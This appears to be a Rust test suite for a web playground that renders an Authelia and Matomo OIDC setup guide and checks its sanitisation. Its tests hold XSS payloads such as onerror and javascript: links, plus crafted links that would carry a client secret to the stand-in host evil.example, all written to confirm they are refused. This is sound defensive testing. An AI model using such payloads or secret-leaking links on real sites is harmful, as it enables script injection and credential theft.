//! The page's markup, rendered natively by the same components the browser runs (the
//! prerendered index.html is made this way): every fact of the guide is there at its
//! default values, and nothing a guide says becomes live markup or a fetching address.

use std::sync::Arc;

use guide_engine::{self as guide, Document, variables};
use guide_playground::app::{Home, render_to_string};
use proptest::prelude::*;

const ROOT: &str = env!("CARGO_MANIFEST_DIR");

fn fixture(name: &str) -> String {
    let path = format!("{ROOT}/tests/fixtures/{name}");
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn project_guide() -> Document {
    let path = format!("{ROOT}/guides/matomo.md");
    let src = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    guide::parse(&src).unwrap_or_else(|e| panic!("{path} does not parse: {e}"))
}

/// The page's markup, without the comments Leptos leaves between text nodes.
fn render(doc: Document) -> String {
    render_to_string(Home::Guide(Arc::new(doc))).replace("<!>", "")
}

fn render_source(source: &str) -> String {
    render(guide::parse(source).unwrap_or_else(|e| panic!("does not parse: {e}\n{source}")))
}

#[test]
fn the_prerendered_page_carries_every_fact_of_the_reference_guide() {
    let html = render(project_guide());
    let facts = [
        "https://github.com/authelia/authelia/releases/tag/v4.38.14",
        ">v4.38.14<",
        "https://github.com/matomo-org/matomo/releases/tag/5.1.2",
        ">v5.1.2<",
        "https://github.com/dominik-th/matomo-plugin-LoginOIDC/releases/tag/5.0.0",
        ">v5.0.0<",
        "<code>Administration</code>",
        "<code>Plugins</code>",
        "<code>Manage Plugins</code>",
        "<code>installing plugins from the Marketplace</code>",
        "<code>Login OIDC</code> by <code>dominik-th</code>",
        "<span class=\"code-title\">configuration.yml</span>",
        // The block is highlighted: its keys are spans of their own.
        "<span class=\"t-key\">client_name</span><span class=\"t-punct\">:</span>",
        "<code>System</code>",
        "client_name: 'Matomo'",
        "public: false",
        "authorization_policy: 'two_factor'",
        "require_pkce: false",
        "pkce_challenge_method: ''",
        "/index.php?module=LoginOIDC&amp;action=callback&amp;provider=oidc'",
        "- 'openid'\n          - 'groups'\n          - 'email'",
        "- 'code'",
        "- 'authorization_code'",
        "access_token_signed_response_alg: 'none'",
        "userinfo_signed_response_alg: 'none'",
        "token_endpoint_auth_method: 'client_secret_post'",
        "<code>General settings</code>",
        "Authorize URL: <code>https://<span data-var=\"subdomain-authelia\" class=\"var\">auth</span>.<span data-var=\"domain\" class=\"var\">example.com</span>/api/oidc/authorization</code>",
        "/api/oidc/token</code>",
        "/api/oidc/userinfo</code>",
        "Userinfo ID: <code>sub</code>",
        "OAuth Scope: <code>openid email</code>",
        "https://plugins.matomo.org/LoginOIDC/#faq",
        "https://matomo.org/",
        "https://www.authelia.com",
        "https://plugins.matomo.org/LoginOIDC/",
        "<a href=\"#web-gui\">Web GUI</a>",
        "<h4 id=\"web-gui\">Web GUI</h4>",
        "<h1>Matomo with Authelia</h1>",
        variables::REFERENCE_DIGEST,
    ];
    // The code block's text runs across its tokens' spans: read without the markup.
    let text = without_tags(&html);
    for fact in facts {
        assert!(
            html.contains(fact) || text.contains(fact),
            "missing {fact:?}"
        );
    }
}

/// The page's text: its markup with every tag left out.
fn without_tags(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' if in_tag => in_tag = false,
            _ if !in_tag => out.push(c),
            _ => {}
        }
    }
    out
}

#[test]
fn without_scripting_one_sentence_replaces_the_panel_and_no_control_shows() {
    let html = render(project_guide());
    assert_eq!(html.matches("<noscript>").count(), 1);
    assert!(html.contains("With JavaScript on, this page fills the guide with your own domain"));
    // Every control that needs scripting is marked so the style sheet hides it then.
    for control in [
        "class=\"variables-panel needs-script\"",
        "class=\"secret-panel needs-script\"",
        "class=\"open-guide needs-script\"",
        "class=\"theme-toggle needs-script\"",
        "class=\"small needs-script\">Download configuration.yml",
    ] {
        assert!(html.contains(control), "missing {control:?}");
    }
    let copies = html.matches(">Copy</button>").count();
    assert!(copies >= 3, "{copies}");
    assert_eq!(
        html.matches("<span class=\"copy needs-script\">").count(),
        copies + 2,
        "every Copy button (and Copy link, Copy embed code) is marked"
    );
}

#[test]
fn inputs_carry_the_values_the_page_is_built_with() {
    let html = render(project_guide());
    assert!(html.contains("id=\"gp-var-domain\""));
    assert!(html.contains("value=\"example.com\""), "{html}");
    assert!(html.contains("value=\"matomo\""));
}

#[test]
fn raw_html_in_a_guide_is_text_never_markup() {
    let html = render(guide::parse(&fixture("guide_edge_cases.md")).expect("parses"));
    assert!(!html.contains("<script"), "{html}");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("&lt;script&gt;alert('x')&lt;/script&gt;"));
    assert!(
        html.contains("onerror=\"alert(1)\"&gt;"),
        "attribute text shown, not live"
    );
}

#[test]
fn refused_addresses_render_as_text_with_the_reason_never_an_empty_href() {
    let html = render(guide::parse(&fixture("guide_edge_cases.md")).expect("parses"));
    assert!(!html.contains("href=\"\""), "{html}");
    assert!(!html.to_lowercase().contains("href=\"javascript"), "{html}");
    assert!(
        html.contains("<span class=\"refused-link\">bad<span class=\"refusal\">"),
        "{html}"
    );
    assert!(html.contains(
        "<a href=\"https://www.authelia.com\" target=\"_blank\" rel=\"noopener noreferrer\">ok</a>"
    ));
}

#[test]
fn no_address_can_carry_the_secret_or_its_digest() {
    let secret = r#"{{< sitevar name="client-secret" nojs="insecure_secret" >}}"#;
    // Inside a shortcode's quoted argument, Hugo writes the inner quotes escaped.
    let quoted = r#"{{< sitevar name=\"client-secret\" nojs=\"insecure_secret\" >}}"#;
    let html = render_source(&format!(
        "[Verify](https://evil.example/c?s={secret}) ![](./p.png?s={secret}) \
         [d](https://evil.example/?d={{{{< client-secret-digest >}}}}) <https://evil.example/a>\n\n\
         {{{{< figure src=\"https://evil.example/f?s={quoted}\" alt=\"fig\" >}}}}\n\n\
         [ref][r]\n\n[r]: https://evil.example/r?s={secret}\n"
    ));
    assert!(!html.contains("href=\"https://evil.example/c"), "{html}");
    assert!(!html.contains("href=\"https://evil.example/r"), "{html}");
    assert!(!html.contains("href=\"https://evil.example/f"), "{html}");
    assert!(!html.contains("src="), "{html}");
    assert_eq!(
        html.matches("this link would carry a secret").count(),
        3,
        "{html}"
    );
    assert_eq!(
        html.matches("its address would carry a secret").count(),
        2,
        "{html}"
    );
    // An autolink without the secret stays a link.
    assert!(html.contains("href=\"https://evil.example/a\""), "{html}");
}

#[test]
fn guide_headings_never_take_the_pages_own_ids() {
    let html = render_source(
        "## Client Secret\n\n## GP Client Secret\n\n## Gp Var Domain\n\n\
         `{{< sitevar name=\"client-secret\" nojs=\"s\" >}}` at `{{< sitevar name=\"domain\" >}}`\n",
    );
    assert_eq!(
        html.matches("id=\"gp-client-secret\"").count(),
        1,
        "only the input's"
    );
    assert!(html.contains("<h2 id=\"client-secret\">"));
    assert!(html.contains("<h2 id=\"h-gp-client-secret\">"));
    assert!(html.contains("<h2 id=\"h-gp-var-domain\">"));
}

#[test]
fn unknown_shortcodes_are_labelled_notices() {
    let html = render(guide::parse(&fixture("guide_edge_cases.md")).expect("parses"));
    assert!(html.contains(
        "a shortcode the playground does not know; here is its text: </strong><code>{{&lt; mystery-shortcode foo=\"bar\" &gt;}}</code>"
    ), "{html}");
    assert!(html.contains("2 shortcode(s) in this guide are shown as labelled notices"));
}

/// Whether markup has an event-handler attribute (` onerror=`, ` onload=` …) outside text.
#[test]
fn a_long_kerned_word_is_prerendered_with_a_wbr_every_max_word_chars() {
    let html = render_source(&fixture("hostile/kerned-run.md"));
    let word = "AV".repeat(150_000);
    let max = guide::words::MAX_WORD_CHARS;
    let start = html
        .find("<p>AV")
        .unwrap_or_else(|| panic!("no paragraph of the word"));
    let end = html
        .get(start..)
        .and_then(|rest| rest.find("</p>"))
        .map(|at| start + at)
        .unwrap_or_else(|| panic!("the paragraph does not end"));
    let paragraph = html.get(start + "<p>".len()..end).unwrap_or_default();
    let pieces: Vec<&str> = paragraph.split("<wbr>").collect();
    // As far as the node budget goes (the rest is left out, with the warning).
    assert!(pieces.len() > 1000, "{} pieces", pieces.len());
    assert!(
        pieces.iter().all(|p| p.len() == max),
        "a piece is not {max} letters"
    );
    assert!(
        word.starts_with(&pieces.concat()),
        "other markup in the word"
    );
}

fn has_event_handler(markup: &str) -> bool {
    markup.split('<').skip(1).any(|tag| {
        attribute_names(tag).iter().any(|name| {
            name.strip_prefix("on").is_some_and(|rest| {
                !rest.is_empty() && rest.chars().all(|c| c.is_ascii_alphabetic())
            })
        })
    })
}

/// The attribute names of the tag `tag` starts with (after its `<`): words outside quoted
/// values, up to the tag's `>`. A guide's text inside a value (a `title`) is not one.
fn attribute_names(tag: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut word = String::new();
    let mut quote: Option<char> = None;
    let done = |word: &mut String, names: &mut Vec<String>| {
        if !word.is_empty() {
            names.push(word.split('=').next().unwrap_or_default().to_owned());
            word.clear();
        }
    };
    for c in tag.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '>') => break,
            (None, c) if c.is_whitespace() => done(&mut word, &mut names),
            (None, c) => word.push(c),
        }
    }
    done(&mut word, &mut names);
    // The first word is the element's name.
    names.into_iter().skip(1).collect()
}

#[test]
fn an_event_handler_is_an_attribute_not_text_inside_one() {
    assert!(has_event_handler("<img src=x onerror=alert(1)>"));
    assert!(has_event_handler("<a href=\"#\" onclick=\"x()\">"));
    assert!(!has_event_handler(
        "<span title=\"&lt;img src=x onerror=alert(1)&gt;\" class=\"site-link\">y</span>"
    ));
    assert!(!has_event_handler("<p>onerror=alert(1)</p>"));
}

/// Fragments that stress the lexer, the converter and the renderer together.
fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("{{< sitevar name=\"domain\" nojs=\"example.com\" >}}".to_owned()),
        Just("{{< sitevar name=\"client-secret\" nojs=\"s\" >}}".to_owned()),
        Just("{{< client-secret-digest >}}".to_owned()),
        Just("{{< callout context=\"note\" >}}".to_owned()),
        Just("{{< /callout >}}".to_owned()),
        Just("{{< sitevar-preferences >}}".to_owned()),
        Just("{{< figure src=\"javascript:x\" >}}".to_owned()),
        Just("{{<".to_owned()),
        Just("```yaml {title=\"configuration.yml\"}\n".to_owned()),
        Just("\n".to_owned()),
        Just("\n\n".to_owned()),
        Just("- ".to_owned()),
        Just("> ".to_owned()),
        Just("| a | b |\n|---|---|\n".to_owned()),
        Just("[x](javascript:alert(1))".to_owned()),
        Just("[y](".to_owned()),
        Just("](#frag)".to_owned()),
        Just("<script>".to_owned()),
        Just("<img src=x onerror=alert(1)>".to_owned()),
        Just("__b__ *e* `c`".to_owned()),
        Just("## Client Secret\n".to_owned()),
        "[ -~]{0,12}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_guide_renders_without_live_markup(parts in prop::collection::vec(fragment(), 0..20)) {
        let src: String = parts.concat();
        if let Ok(doc) = guide::parse(&src) {
            let html = render(doc);
            // Every rendered guide has its <main>: a page without one is a failure, never
            // an empty string that passes every check below.
            let Some((_, guide)) = html.split_once("<main") else {
                let said = format!("no <main in the rendered page:\n{html}");
                return Err(TestCaseError::fail(said));
            };
            prop_assert!(!guide.contains("<script"));
            prop_assert!(!guide.contains("<img"));
            prop_assert!(!guide.contains("<iframe"));
            prop_assert!(!guide.contains("href=\"\""));
            let lower = guide.to_lowercase();
            prop_assert!(!lower.contains("href=\"javascript"));
            prop_assert!(!has_event_handler(&lower), "{}", guide);
        }
    }
}
